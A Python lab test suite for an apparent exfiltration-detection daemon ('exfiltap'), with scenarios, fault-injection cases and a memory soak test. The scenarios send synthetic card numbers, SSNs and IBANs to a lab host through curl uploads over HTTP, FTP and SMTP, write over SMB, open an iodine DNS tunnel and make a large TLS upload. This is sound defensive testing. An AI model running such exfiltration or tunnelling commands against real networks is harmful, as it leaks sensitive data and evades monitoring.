#!/usr/bin/env python3
"""scripts/lab test: exfiltap inline in the full lab (lab.py) with real servers and clients
from Debian packages (servers.py), then the fault cases and the soak. Prints TAP and ends with
"N passed, N failed".

Every scenario asserts on the alerts file, the metrics and what the client saw. The lab, the
servers and the daemon are removed at the end, by PID, whatever failed.
"""
import json
import os
import random
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import traceback
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import daemon as daemonmod  # noqa: E402
import lab as labmod  # noqa: E402
import servers  # noqa: E402
import siem_test  # noqa: E402

wait_for = daemonmod.wait_for
OUT = labmod.OUTSIDE_IP
IN = labmod.INSIDE_IP
IN2 = labmod.INSIDE2_IP
# Card numbers that pass Luhn and IIN checks (generated, not published test numbers).
CARDS = ["4556737586899855", "5425233430109903", "4716108999716531", "4929584730273834"]


def lab_config(d, lab, extra=""):
    return f"""# exfiltap in the lab (scripts/lab): inside | exfiltap | switch - outside, inside2
dpdk:
  memory_mb: 768
{lab.ports_yaml()}networks:
  internal: ["{labmod.INTERNAL_NET}"]    # documentation ranges are external by default
assets:
  - name: analyst-workstation
    prefixes: [{IN}]
    classification: confidential
  - name: design-workstation            # shares a folder, but is no file server
    prefixes: [{IN2}]
    classification: internal
content:
  classification_markers: ["LAB CONFIDENTIAL"]
behaviour:
  unexpected_file_write:
    external: true
    external_min_bytes: 1MB
  encrypted_asymmetry:
    min_bytes: 10MB
  mail_attachment_out:
    count: 1
  dns_tunnel:
    window_s: 60
outputs:
  alerts_file: {d.alerts}
  alert_suppression_s: 0
state_dir: {d.state}
control:
  socket: {d.socket}
metrics:
  listen: "127.0.0.1:{d.metrics_port}"
response:
  default_ttl_s: 600
  block_table: {{exact_capacity: 4096, prefix_capacity: 256}}
  policies:
    - name: cards-out
      detector: content
      class: payment_card
      action: block-remote
      ttl_s: 600
{extra}"""


class Ctx:
    pass


def alerts_since(ctx, mark):
    """Alert records written since the file held `mark` records (incident records, which the
    lab's inside host opens as its uploads add up, are left out)."""
    return [r for r in ctx.daemon.alerts_list()[mark:] if r.get("event_type") == "alert"]


def alert_counts(ctx):
    """exfiltap_alerts_total by (detector, class), from a real scrape of /metrics."""
    counts = {}
    for line in ctx.daemon.metrics().splitlines():
        if line.startswith("exfiltap_alerts_total{"):
            head, _, value = line.rpartition(" ")
            labels = dict(part.split("=", 1) for part in head[head.index("{") + 1:-1].split(","))
            key = (labels["detector"].strip('"'), labels["class"].strip('"'))
            counts[key] = counts.get(key, 0) + int(float(value))
    return counts


def check_metrics_match(ctx, before, alerts):
    """The alert counters grew by exactly the alerts the file gained (per detector and
    class); the exporter refreshes once a second."""
    want = {}
    for a in alerts:
        key = (a["exfil"]["detector"], a["exfil"]["class"])
        want[key] = want.get(key, 0) + 1

    def grown():
        now = alert_counts(ctx)
        return {k: now.get(k, 0) - before.get(k, 0) for k in set(now) | set(before)
                if now.get(k, 0) != before.get(k, 0)}
    assert wait_for(lambda: grown() == want, 5), (grown(), want)


def brief(alerts):
    """An assertion message: each distinct (detector, class, source, destination) once."""
    seen = {}
    for a in alerts:
        ex = a.get("exfil", {})
        key = (ex.get("detector"), ex.get("class"), a.get("src_ip"), a.get("dest_ip"),
               a.get("dest_port"))
        seen[key] = seen.get(key, 0) + 1
    return "; ".join(f"{k[0]}/{k[1]} {k[2]}->{k[3]}:{k[4]} x{n}" for k, n in seen.items()) or "none"


def find(alerts, **want):
    """Alerts whose fields (dotted paths) equal the wanted values."""
    def get(record, path):
        for part in path.split("__"):
            if not isinstance(record, dict):
                return None
            record = record.get(part)
        return record
    return [a for a in alerts if all(get(a, k) == v for k, v in want.items())]


def sh_in(ctx, ns, *args, timeout=60, check=False):
    return ctx.lab.exec_in(ns, *args, check=check, timeout=timeout)


def curl(ctx, *args, timeout=60):
    """curl from inside; returns (exit code, stdout)."""
    r = sh_in(ctx, ctx.lab.ns_in, "curl", "-sS", *args, timeout=timeout)
    return r.returncode, r.stdout


def write_file(ctx, name, text=None, size=None, seed=1):
    path = os.path.join(ctx.workdir, name)
    with open(path, "wb") as f:
        if text is not None:
            f.write(text.encode())
        else:
            f.write(random.Random(seed).randbytes(size))
    return path


def ssn_text():
    lines = [f"employee {i:04d}, SSN: {random.Random(i).randint(101, 665)}-"
             f"{random.Random(i + 7).randint(10, 99)}-{random.Random(i + 9).randint(1000, 9999)}"
             for i in range(40)]
    return "\n".join(lines) + "\n"


def iban_text():
    # German IBANs with their check digits computed (ISO 13616, mod 97).
    out = []
    for i in range(20):
        bban = f"37040044{i:010d}"
        rearranged = bban + "1314" + "00"  # D=13 E=14
        check = 98 - int(rearranged) % 97
        out.append(f"payee {i}: IBAN DE{check:02d}{bban}")
    return "\n".join(out) + "\n"


# ---------------------------------------------------------------------------------------
# Scenarios

def test_benign_raises_nothing(ctx):
    mark = len(ctx.daemon.alerts_list())
    for _ in range(3):
        rc, body = curl(ctx, "-m", "10", f"http://{OUT}/small")
        assert rc == 0 and "nothing sensitive" in body, (rc, body[:200])
    for name in ("www.lab.example", "files.lab.example", "www.lab.example"):
        r = sh_in(ctx, ctx.lab.ns_in, "dig", "+short", "+time=3", "+tries=1",
                  f"@{labmod.OUTSIDE_DNS_IP}", name)
        assert r.stdout.strip() == OUT, (name, r.stdout, r.stderr)
    r = sh_in(ctx, ctx.lab.ns_in, "ssh", "-i", ctx.ssh.client_key, "-o", "BatchMode=yes",
              "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
              "-o", "ConnectTimeout=10", f"root@{OUT}", "echo", "lab-login-ok")
    assert "lab-login-ok" in r.stdout, (r.returncode, r.stderr[-500:])
    time.sleep(2)
    new = alerts_since(ctx, mark)
    assert new == [], brief(new)


def test_card_upload_blocks_then_unblock(ctx):
    d = ctx.daemon
    mark = len(d.alerts_list())
    body = "".join(f"customer {i}, card {CARDS[i % 4]}, exp 12/29\n" for i in range(200))
    path = write_file(ctx, "cards.txt", body)
    # The block may cut the upload itself off: what the client saw of it is not asserted.
    curl(ctx, "-m", "8", "--data-binary", f"@{path}", "-H", "Content-Type: text/plain",
         f"http://{OUT}/upload")
    found = wait_for(lambda: find(alerts_since(ctx, mark), exfil__class="payment_card"), 15)
    assert found, brief(alerts_since(ctx, mark))
    alert = found[0]
    assert alert["src_ip"] == IN and alert["dest_ip"] == OUT, alert
    sample = alert["exfil"]["sample"]
    assert sample.lstrip("*") in {c[-4:] for c in CARDS} and sample.startswith("*"), alert
    for card in CARDS:
        assert card not in json.dumps(d.alerts_list()), "a full card number in the alerts"
    entry = wait_for(lambda: [e for e in d.ctl_json("list", "--kind", "block")["message"]
                              if e["address"] == OUT], 10)
    assert entry, d.ctl_json("list", "--kind", "block")
    rc, out = curl(ctx, "-m", "4", f"http://{OUT}/small")
    assert rc != 0, f"the blocked server still answered: {out[:100]}"
    assert d.metric("exfiltap_blocklist_hits_total") > 0
    assert d.ctl_json("unblock", OUT)["return"] == "OK"
    rc, out = curl(ctx, "-m", "10", f"http://{OUT}/small")
    assert rc == 0 and "nothing sensitive" in out, (rc, out[:100])


def test_ftp_stor_detected(ctx):
    mark = len(ctx.daemon.alerts_list())
    counted = alert_counts(ctx)
    text = ssn_text()
    filler = "quarterly figures, nothing to see\n" * 40000  # ~1.3 MB: a file write to outside
    path = write_file(ctx, "payroll.txt", text + filler)
    rc, out = curl(ctx, "-m", "60", "-T", path,
                   f"ftp://{servers.FTP_USER}:{servers.FTP_PASSWORD}@{OUT}/payroll.txt")
    assert rc == 0, (rc, out)
    stored = os.path.join(ctx.workdir, "ftp-root", "payroll.txt")
    assert os.path.getsize(stored) == os.path.getsize(path)
    new = wait_for(lambda: (find(alerts_since(ctx, mark), exfil__class="us_ssn")
                            and find(alerts_since(ctx, mark),
                                     exfil__detector="unexpected_file_write")
                            and alerts_since(ctx, mark)), 15)
    assert new, brief(alerts_since(ctx, mark))
    ssns = wait_for(lambda: len(find(alerts_since(ctx, mark), exfil__class="us_ssn")) >= 40
                    and find(alerts_since(ctx, mark), exfil__class="us_ssn"), 10)
    assert len(ssns) == 40, len(ssns)  # one per number: suppression is off in the lab
    for ssn in ssns:
        assert ssn["dest_ip"] == OUT and ssn["src_ip"] == IN, ssn
        assert ssn["exfil"]["sample"].startswith("*****"), ssn  # the last four only
    assert len({a["exfil"]["sample_hmac"] for a in ssns}) == 40
    write = find(new, exfil__detector="unexpected_file_write")[0]
    assert write["dest_ip"] == OUT and write["dest_port"] == 21, write  # the control flow
    ex = write["exfil"]
    assert (ex["app_proto"], ex["file_name"], ex["user"]) == ("ftp", "payroll.txt", "lab"), ex
    assert ex["bytes"] == os.path.getsize(path), ex
    time.sleep(1)  # late findings of the same transfer
    check_metrics_match(ctx, counted, alerts_since(ctx, mark))


def test_smtp_attachment_detected(ctx):
    mark = len(ctx.daemon.alerts_list())
    counted = alert_counts(ctx)
    path = write_file(ctx, "payees.csv", iban_text())
    rc, out = curl(ctx, "-m", "30", f"smtp://{OUT}:25", "--mail-from", "analyst@corp.lab.example",
                   "--mail-rcpt", "drop@outside.example", "-H", "Subject: payees",
                   "-F", "=(;type=multipart/mixed", "-F", "=see attached;type=text/plain",
                   "-F", f"file=@{path};type=text/csv;encoder=base64", "-F", "=)")
    assert rc == 0, (rc, out)
    assert wait_for(lambda: "payees.csv" in ctx.smtp.output(), 10), ctx.smtp.output()[-500:]
    new = wait_for(lambda: (find(alerts_since(ctx, mark), exfil__class="iban")
                            and find(alerts_since(ctx, mark),
                                     exfil__detector="mail_attachment_out")
                            and alerts_since(ctx, mark)), 15)
    assert new, brief(alerts_since(ctx, mark))
    ibans = find(new, exfil__class="iban")
    assert ibans[0]["dest_ip"] == OUT and ibans[0]["dest_port"] == 25, ibans[0]
    mail = find(new, exfil__detector="mail_attachment_out")[0]["exfil"]
    assert mail["file_name"] == "payees.csv" and mail["app_proto"] == "smtp", mail
    assert mail["user"] == "analyst@corp.lab.example", mail
    assert mail["domain"] == "outside.example", mail
    assert mail["bytes"] == os.path.getsize(path), mail  # decoded from base64
    time.sleep(1)  # late findings of the same transfer
    check_metrics_match(ctx, counted, alerts_since(ctx, mark))


def test_smb2_write_detected(ctx):
    mark = len(ctx.daemon.alerts_list())
    counted = alert_counts(ctx)
    text = "LAB CONFIDENTIAL - design review\n" + "draft section\n" * 2000
    path = write_file(ctx, "design.txt", text)
    r = sh_in(ctx, ctx.lab.ns_in, "smbclient", f"//{IN2}/drop", "-N", "-c",
              f"put {path} design.txt", timeout=60)
    assert r.returncode == 0, (r.returncode, r.stdout[-300:], r.stderr[-300:])
    assert os.path.getsize(os.path.join(ctx.smb.share, "design.txt")) == len(text)
    new = wait_for(lambda: find(alerts_since(ctx, mark),
                                exfil__detector="unexpected_file_write") and
                   alerts_since(ctx, mark), 15)
    assert new, brief(alerts_since(ctx, mark))
    write = find(new, exfil__detector="unexpected_file_write")[0]
    assert write["dest_ip"] == IN2 and write["src_ip"] == IN, write
    assert write["dest_port"] == 445 and write["exfil"]["app_proto"] == "smb", write
    assert write["exfil"]["file_name"] == "design.txt", write
    assert write["exfil"]["bytes"] == len(text), write
    assert write["dest_asset"]["name"] == "design-workstation", write
    # Internal to internal: content classes alert on what goes outside only.
    assert not find(new, exfil__detector="content"), brief(new)
    time.sleep(1)  # late findings of the same transfer
    check_metrics_match(ctx, counted, alerts_since(ctx, mark))


def test_dns_tunnel_detected(ctx):
    mark = len(ctx.daemon.alerts_list())
    iodined = servers.start_iodined(ctx.lab, ctx.workdir)
    client = None
    try:
        client = servers.Service(ctx.lab, ctx.lab.ns_in, "iodine",
                                 ["/usr/sbin/iodine", "-f", "-r", "-P", servers.TUNNEL_PASSWORD,
                                  OUT, servers.TUNNEL_DOMAIN], ctx.workdir,
                                 ready=lambda: "setup complete" in open(
                                     os.path.join(ctx.workdir, "iodine.log")).read(), timeout=60)
        r = sh_in(ctx, ctx.lab.ns_in, "ping", "-c", "20", "-i", "0.2", "-s", "400", "-W", "2",
                  "10.53.53.1", timeout=60)
        received = re.search(r"(\d+) received", r.stdout)
        assert received and int(received.group(1)) > 0, r.stdout[-300:]  # the tunnel carries
        new = wait_for(lambda: find(alerts_since(ctx, mark), exfil__detector="dns_tunnel")
                       and alerts_since(ctx, mark), 20)
        assert new, brief(alerts_since(ctx, mark))
        tunnel = find(new, exfil__detector="dns_tunnel")[0]
        assert tunnel["src_ip"] == IN and tunnel["dest_port"] == 53, tunnel
        assert tunnel["exfil"]["domain"] == "lab.example", tunnel  # no public suffix: 2 labels
        assert tunnel["exfil"]["count"] >= 30, tunnel
    finally:
        if client is not None:
            client.stop()
        iodined.stop()


def test_large_tls_upload_detected(ctx):
    mark = len(ctx.daemon.alerts_list())
    counted = alert_counts(ctx)
    path = write_file(ctx, "archive.bin", size=24 * 1024 * 1024, seed=7)
    rc, out = curl(ctx, "-m", "120", "-k", "--resolve", f"{servers.TLS_NAME}:443:{OUT}",
                   "--data-binary", f"@{path}", f"https://{servers.TLS_NAME}/upload", timeout=150)
    assert rc == 0 and json.loads(out)["received"] == 24 * 1024 * 1024, (rc, out[:200])
    new = wait_for(lambda: find(alerts_since(ctx, mark), exfil__detector="encrypted_asymmetry")
                   and alerts_since(ctx, mark), 20)
    assert new, brief(alerts_since(ctx, mark))
    alert = find(new, exfil__detector="encrypted_asymmetry")[0]
    assert alert["dest_ip"] == OUT and alert["src_ip"] == IN, alert
    ex = alert["exfil"]
    assert ex["server_name"] == servers.TLS_NAME and ex["app_proto"] == "tls", ex
    assert 10_000_000 <= ex["bytes"] <= 24 * 1024 * 1024 + 100_000, ex
    time.sleep(1)  # late findings of the same transfer
    check_metrics_match(ctx, counted, alerts_since(ctx, mark))


def test_prometheus_scrapes_live_daemon(ctx):
    prom = shutil.which("prometheus")
    assert prom, "prometheus is not installed"
    d = ctx.daemon
    port = daemonmod.free_port()
    pdir = tempfile.mkdtemp(prefix="exft-lab-prom-")
    with open(os.path.join(pdir, "prometheus.yml"), "w") as f:
        f.write("global: {scrape_interval: 1s}\nscrape_configs:\n  - job_name: exfiltap\n"
                f"    static_configs: [{{targets: ['127.0.0.1:{d.metrics_port}']}}]\n")
    proc = subprocess.Popen([prom, f"--config.file={pdir}/prometheus.yml",
                             f"--storage.tsdb.path={pdir}/data",
                             f"--web.listen-address=127.0.0.1:{port}"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        def query(expr):
            url = f"http://127.0.0.1:{port}/api/v1/query?query={urllib.request.quote(expr)}"
            try:
                with urllib.request.urlopen(url, timeout=2) as r:
                    result = json.loads(r.read())["data"]["result"]
                return float(result[0]["value"][1]) if result else None
            except (OSError, ValueError, KeyError):
                return None
        alerts = wait_for(lambda: query("sum(exfiltap_alerts_total)"), 30)
        assert alerts and alerts >= 5, alerts
        assert wait_for(lambda: query('sum(exfiltap_packets_total)'), 10) > 1000
    finally:
        labmod.end_process(proc, grace_s=20)
        shutil.rmtree(pdir, ignore_errors=True)


SCENARIOS = [test_benign_raises_nothing, test_card_upload_blocks_then_unblock,
             test_ftp_stor_detected, test_smtp_attachment_detected, test_smb2_write_detected,
             test_dns_tunnel_detected, test_large_tls_upload_detected,
             test_prometheus_scrapes_live_daemon]


# ---------------------------------------------------------------------------------------
# Fault cases

def ssn_upload(ctx, name="ssn.txt"):
    """An HTTP upload of 40 SSNs to outside: 40 us_ssn alerts (suppression is off), no
    response policy. Returns what the client saw."""
    path = write_file(ctx, name, ssn_text())
    rc, out = curl(ctx, "-m", "20", "--data-binary", f"@{path}", f"http://{OUT}/upload")
    assert rc == 0 and json.loads(out)["received"] == os.path.getsize(path), (rc, out)
    return out


def ssn_alerts_total(ctx):
    return ctx.daemon.metric("exfiltap_alerts_total", {"class": "us_ssn"}) or 0


def test_control_client_disconnects_mid_line(ctx):
    d = ctx.daemon
    for cut in ('{"command": "blo', '{"command": "block", "address": "198.51.100.99"',
                "\x00\xff garbage without an end"):
        for _ in range(5):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.connect(d.socket)
                s.sendall(cut.encode("latin-1"))
            # closed here, mid-line
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(d.socket)
        s.sendall(b'{"command": "stats"')
        s.shutdown(socket.SHUT_WR)  # half-closed: no line end will ever come
        s.settimeout(5)
        try:
            s.recv(4096)
        except socket.timeout:
            pass
    assert d.running()
    stats = d.ctl_json("stats")
    assert stats["return"] == "OK" and stats["message"]["packets_rx"] > 0, stats
    assert not [e for e in d.ctl_json("list", "--kind", "block")["message"]
                if e["address"] == "198.51.100.99"], "a cut-off command was carried out"
    rc, out = curl(ctx, "-m", "10", f"http://{OUT}/small")
    assert rc == 0, (rc, out[:100])


def test_sighup_with_broken_config(ctx):
    d = ctx.daemon
    with open(d.config) as f:
        good = f.read()
    log_mark = len(d.log_text())
    refused_before = d.metric("exfiltap_config_reloads_total", {"result": "refused"})
    try:
        with open(d.config, "w") as f:
            f.write(good.replace("  count: 1\n", "  count: [1\n", 1))
        d.signal(signal.SIGHUP)
        refused = wait_for(lambda: "reload refused" in d.log_text()[log_mark:], 10)
        assert refused, d.log_text()[log_mark:]
        assert d.config in d.log_text()[log_mark:], "the refusal does not name the file"
        assert wait_for(lambda: d.metric("exfiltap_config_reloads_total", {"result": "refused"})
                        == refused_before + 1, 5)
        assert d.running()
        rc, out = curl(ctx, "-m", "10", f"http://{OUT}/small")
        assert rc == 0, (rc, out[:100])
    finally:
        with open(d.config, "w") as f:
            f.write(good)
    log_mark = len(d.log_text())
    applied_before = d.metric("exfiltap_config_reloads_total", {"result": "applied"})
    d.signal(signal.SIGHUP)
    assert wait_for(lambda: "reload: content generation" in d.log_text()[log_mark:], 20), \
        d.log_text()[log_mark:]
    assert wait_for(lambda: d.metric("exfiltap_config_reloads_total", {"result": "applied"})
                    == applied_before + 1, 5)
    before = ssn_alerts_total(ctx)
    ssn_upload(ctx)
    assert wait_for(lambda: ssn_alerts_total(ctx) >= before + 40, 10), ssn_alerts_total(ctx)


def test_alerts_folder_removed(ctx):
    d = ctx.daemon
    folder = os.path.dirname(d.alerts)
    lost_before = d.metric("exfiltap_output_dropped_records_total", {"output": "alerts_file"})
    alerts_before = ssn_alerts_total(ctx)
    log_mark = len(d.log_text())
    shutil.rmtree(folder)
    ssn_upload(ctx)  # traffic keeps flowing
    said = wait_for(lambda: "was removed; created it again" in d.log_text()[log_mark:], 10)
    assert said, d.log_text()[log_mark:]
    assert wait_for(lambda: ssn_alerts_total(ctx) >= alerts_before + 40, 10)
    lost = d.metric("exfiltap_output_dropped_records_total", {"output": "alerts_file"}) \
        - lost_before
    kept = len(find(d.alerts_list(), exfil__class="us_ssn"))
    # Every alert is either in the new file or counted as lost; none vanished unseen.
    assert lost + kept == ssn_alerts_total(ctx) - alerts_before, (lost, kept)
    ssn_upload(ctx, "ssn2.txt")
    assert wait_for(lambda: len(find(d.alerts_list(), exfil__class="us_ssn")) == kept + 40, 10)
    assert stat_mode(folder) == 0o750, oct(stat_mode(folder))


def stat_mode(path):
    return os.stat(path).st_mode & 0o777


def test_alerts_disk_full(ctx):
    d = ctx.daemon
    folder = os.path.dirname(d.alerts)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k,mode=0750", "exft-lab-full", folder],
                   check=True)
    try:
        assert d.ctl_json("reopen-log-files")["return"] == "OK"  # as after log rotation
        filler = os.path.join(folder, "filler")
        subprocess.run(["dd", "if=/dev/zero", f"of={filler}", "bs=4k"], capture_output=True)
        # One page left: a few records fit, the next is cut off mid-line by the full disk.
        subprocess.run(["truncate", "-s", "-4096", filler], check=True)
        lost_before = d.metric("exfiltap_output_dropped_records_total", {"output": "alerts_file"})
        alerts_before = ssn_alerts_total(ctx)
        ssn_upload(ctx)  # the client is served while alerts cannot be written
        assert wait_for(lambda: ssn_alerts_total(ctx) >= alerts_before + 40, 10)

        def lost():
            return d.metric("exfiltap_output_dropped_records_total",
                            {"output": "alerts_file"}) - lost_before
        kept = len(d.alerts_list())  # json.loads of every line: whole lines only
        assert 0 < kept < 40, kept
        assert wait_for(lambda: lost() == 40 - kept, 5), (lost(), kept)
        assert "cannot write alert record" in d.log_text()
        os.unlink(filler)
        ssn_upload(ctx, "ssn2.txt")
        assert wait_for(lambda: len(d.alerts_list()) == kept + 40, 10), len(d.alerts_list())
        assert "writing alert records again" in d.log_text()
    finally:
        subprocess.run(["umount", "-l", folder], check=False)
        d.ctl_run("reopen-log-files")


def test_link_down_and_back(ctx):
    d = ctx.daemon
    rx_before = d.ctl_json("stats")["message"]["packets_rx"]
    subprocess.run(["ip", "link", "set", ctx.lab.root_in, "down"], check=True)
    try:
        rc, _ = curl(ctx, "-m", "3", f"http://{OUT}/small")
        assert rc != 0, "traffic crossed a link that is down"
    finally:
        subprocess.run(["ip", "link", "set", ctx.lab.root_in, "up"], check=True)
    # net_af_packet reports no link state: the test watches traffic come back.
    def served():
        rc, out = curl(ctx, "-m", "3", f"http://{OUT}/small")
        return rc == 0 and "nothing sensitive" in out
    assert wait_for(served, 30, step=0.5), "traffic did not resume"
    assert d.running()
    assert d.ctl_json("stats")["message"]["packets_rx"] > rx_before


def test_corrupt_state_file(ctx):
    d = ctx.daemon
    assert d.ctl_json("block", "203.0.113.7", "--reason", "kept across restarts")["return"] == "OK"
    assert d.stop() == 0
    snapshot = [os.path.join(d.state, n) for n in os.listdir(d.state)
                if n.startswith("blocklist.")]
    assert snapshot, os.listdir(d.state)
    for path in snapshot:
        with open(path, "r+b") as f:
            data = bytearray(f.read())
            data[len(data) // 2:] = b"\x00garbage\xff" * 8
            f.seek(0)
            f.write(data)
    log_mark = len(d.log_text())
    d.start()
    log = d.log_text()[log_mark:]
    assert "corrupt" in log, log[-2000:]
    aside = [n for n in os.listdir(d.state) if ".corrupt-" in n]
    assert aside, os.listdir(d.state)
    assert d.ctl_json("stats")["return"] == "OK"
    rc, out = curl(ctx, "-m", "10", f"http://{OUT}/small")
    assert rc == 0, (rc, out[:100])


def test_siem_outputs_follow_reload(ctx):
    """A reload moves the syslog output from one receiver to another and then switches it
    off, while the daemon runs: each upload's records reach the receiver configured at the
    time, none is lost, and the output's drop counter stays through the reloads."""
    d = ctx.daemon
    with open(d.config) as f:
        good = f.read()
    first, second = siem_test.Receiver(), siem_test.Receiver()

    def configure(receiver):
        text = good
        if receiver is not None:
            text = good.replace("  alert_suppression_s: 0\n", "  alert_suppression_s: 0\n"
                                "  syslog: {enabled: true, transport: tcp, address: "
                                f'"127.0.0.1:{receiver.port}"}}\n', 1)
            assert text != good
        with open(d.config, "w") as f:
            f.write(text)
        reply = d.ctl_json("reload")
        assert reply["return"] == "OK" and "SIEM outputs" in reply["message"], reply

    def ssn_messages(receiver):
        return [m for m in receiver.messages
                if '"event_type":"alert"' in m and '"class":"us_ssn"' in m]

    try:
        configure(first)
        ssn_upload(ctx, "ssn-siem-1.txt")
        assert wait_for(lambda: len(ssn_messages(first)) >= 40, 15), len(ssn_messages(first))
        time.sleep(0.5)
        assert len(ssn_messages(first)) == 40, len(ssn_messages(first))
        assert all(siem_test.HEADER.match(m) for m in first.messages), first.messages[:1]
        configure(second)
        ssn_upload(ctx, "ssn-siem-2.txt")
        assert wait_for(lambda: len(ssn_messages(second)) >= 40, 15), len(ssn_messages(second))
        time.sleep(0.5)
        assert len(ssn_messages(second)) == 40 and len(ssn_messages(first)) == 40, \
            (len(ssn_messages(first)), len(ssn_messages(second)))
        configure(None)
        before = ssn_alerts_total(ctx)
        ssn_upload(ctx, "ssn-siem-3.txt")
        assert wait_for(lambda: ssn_alerts_total(ctx) >= before + 40, 10)
        time.sleep(0.5)
        assert len(ssn_messages(second)) == 40 and len(ssn_messages(first)) == 40
        stats = d.ctl_json("stats")["message"]
        assert stats["siem_outputs"] == {} and stats["siem_records_lost"] == {"syslog": 0}, \
            stats
        assert wait_for(lambda: d.metric("exfiltap_output_dropped_records_total",
                                         {"output": "syslog"}) == 0, 5)
        assert "reload: SIEM outputs now none" in d.log_text()
    finally:
        with open(d.config, "w") as f:
            f.write(good)
        d.ctl_json("reload")
        first.close()
        second.close()


FAULTS = [test_control_client_disconnects_mid_line, test_sighup_with_broken_config,
          test_alerts_folder_removed, test_alerts_disk_full, test_link_down_and_back,
          test_corrupt_state_file, test_siem_outputs_follow_reload]


# ---------------------------------------------------------------------------------------
# Soak: a capture replayed without end through the real daemon (net_pcap, infinite_rx, into
# net_null) while a second process sends block, unblock, list and reload commands in a loop.

SOAK_COMMANDER = r"""
import json, random, subprocess, sys, time
ctl, sock, seconds, out = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4]
seen = sys.argv[5].split(",")  # addresses of the capture: their blocks drop packets
rng = random.Random(5)
sent = ok = 0
kinds = {}
deadline = time.time() + seconds
while time.time() < deadline:
    n = sent % 20
    if n == 19:
        args = ["reload"]
    elif n % 4 == 3:
        args = ["list", "--kind", "all"]
    elif n % 4 == 0:
        args = ["block", rng.choice(seen), "--ttl", "30", "--reason", "soak"]
    elif n % 2 == 0:
        args = ["block", f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                "--ttl", "30", "--reason", "soak"]
    else:
        args = ["unblock", last]
    if args[0] == "block":
        last = args[1]
    r = subprocess.run([ctl, "--socket", sock, "--json"] + args, capture_output=True,
                       text=True, timeout=30)
    sent += 1
    kinds[args[0]] = kinds.get(args[0], 0) + 1
    try:
        ok += json.loads(r.stdout)["return"] == "OK"
    except ValueError:
        pass
    time.sleep(0.05)  # about 20 commands a second, a reload every second
json.dump({"sent": sent, "ok": ok, "kinds": kinds}, open(out, "w"))
"""


def soak(exfiltap, ctl, capture, seconds, counter):
    counter["n"] += 1
    name = f"soak ({int(seconds)} s)"
    work = tempfile.mkdtemp(prefix="exft-soak-")
    d = daemonmod.Daemon(exfiltap, ctl, work)
    d.write_config(f"""dpdk: {{memory_mb: 768}}
ports:
  mode: inline
  pairs:
    - inside: "net_pcap0,rx_pcap={capture},infinite_rx=1"
      outside: "net_null0,no-rx=1"
  mbufs: 32767                         # net_pcap holds the whole capture in mbufs
workers: {{count: 1}}
networks: {{internal: ["10.0.0.0/8", "192.168.0.0/16", "172.16.0.0/12"]}}
outputs: {{alerts_file: {d.alerts}, alert_suppression_s: 60}}
state_dir: {d.state}
control: {{socket: {d.socket}}}
metrics: {{listen: "127.0.0.1:{d.metrics_port}"}}
response:
  block_table: {{exact_capacity: 65536, prefix_capacity: 1024}}
""")
    commander = None
    try:
        d.start()
        begun = time.time()
        script = os.path.join(work, "commander.py")
        with open(script, "w") as f:
            f.write(SOAK_COMMANDER)
        result = os.path.join(work, "commands.json")
        # The commands start with the traffic: the first reloads and blocks are part of the
        # warm-up, and the memory is judged on the rest of the run.
        commander = subprocess.Popen([sys.executable, script, ctl, d.socket, str(seconds), result,
                                      ",".join(capture_addresses(capture))])
        samples = []  # (RSS KiB, the daemon's own memory figures), every 2 s

        def sample():
            memory = d.ctl_json("stats")["message"]["memory"]
            samples.append((d.rss_kib(), memory))

        while commander.poll() is None and time.time() - begun < seconds + 120:
            time.sleep(2)
            sample()
        commander.wait(timeout=60)
        with open(result) as f:
            commands = json.load(f)
        stats = d.ctl_json("stats")["message"]
        assert stats["packets_rx"] > 0, stats
        sample()
        # Each reload compiles a content database, which holds tens of MiB for a moment:
        # the samples swing with it. What must not grow is the floor they come back to,
        # judged from the middle third (the first third is the warm-up) to the last.
        third = max(1, len(samples) // 3)

        def growth(pick):
            return (min(pick(x) for x in samples[-third:])
                    - min(pick(x) for x in samples[third:2 * third]))

        rss = [x[0] for x in samples]
        rss_start = min(rss[third:2 * third])
        rss_end = min(rss[-third:])
        heap_growth = growth(lambda x: x[1]["heap_in_use_bytes"])
        dpdk_growth = growth(lambda x: x[1]["dpdk_heap_in_use_bytes"])
        mbuf_growth = growth(lambda x: x[1]["mbufs_in_use"])
        last = samples[-1][1]
        rc = d.stop()
        ran = time.time() - begun
        assert rc == 0, f"exit {rc}"
        # Counts after the stop: every packet received was sent or counted as dropped.
        final = final_counts(d.log_text())
        missing = final["rx"] - final["tx"] - final["dropped"]
        print(f"# soak: {final['rx']} packets in {ran:.0f} s "
              f"({final['rx'] / ran / 1e6:.2f} Mpps), tx {final['tx']}, dropped "
              f"{final['dropped']}, missing {missing}; commands {commands['sent']} "
              f"({commands['kinds']}), {commands['ok']} ok; floors from the middle third to "
              f"the last: malloc in use {heap_growth:+d} B, rte_malloc in use {dpdk_growth:+d} "
              f"B, mbufs in use {mbuf_growth:+d}; at the end malloc {last['heap_in_use_bytes']}"
              f" B in use and {last['heap_free_held_bytes']} B held free, rte_malloc "
              f"{last['dpdk_heap_in_use_bytes']} of {last['dpdk_heap_total_bytes']} B, mbufs "
              f"{last['mbufs_in_use']} of {last['mbufs_total']}; RSS floor {rss_start} KiB in "
              f"the middle third, {rss_end} KiB in the last, peak {max(rss)} KiB; every 2 s: "
              f"{' '.join(str(x // 1024) for x in rss)} MiB", flush=True)
        assert missing == 0, final
        assert commands["ok"] == commands["sent"] and commands["sent"] > 50, commands
        # Bounded memory, judged on what the allocators hold in use, floor against floor:
        # a reload or a block that leaked would raise them by its size each time (about 40
        # reloads and 400 blocks in a minute).
        assert heap_growth < 4 << 20, (heap_growth, samples)
        assert dpdk_growth < 1 << 20, (dpdk_growth, samples)
        assert mbuf_growth < 1024, (mbuf_growth, samples)
        # The resident size only within a wide bound: DPDK's --no-huge memory is touched page
        # by page as rte_malloc first hands it out, and glibc keeps what a reload freed, so it
        # steps up now and then (29 MiB once, in a clean-clone CI run) without a leak.
        assert rss_end - rss_start < 96 << 10, (rss_start, rss_end, rss)
        counter["passed"] += 1
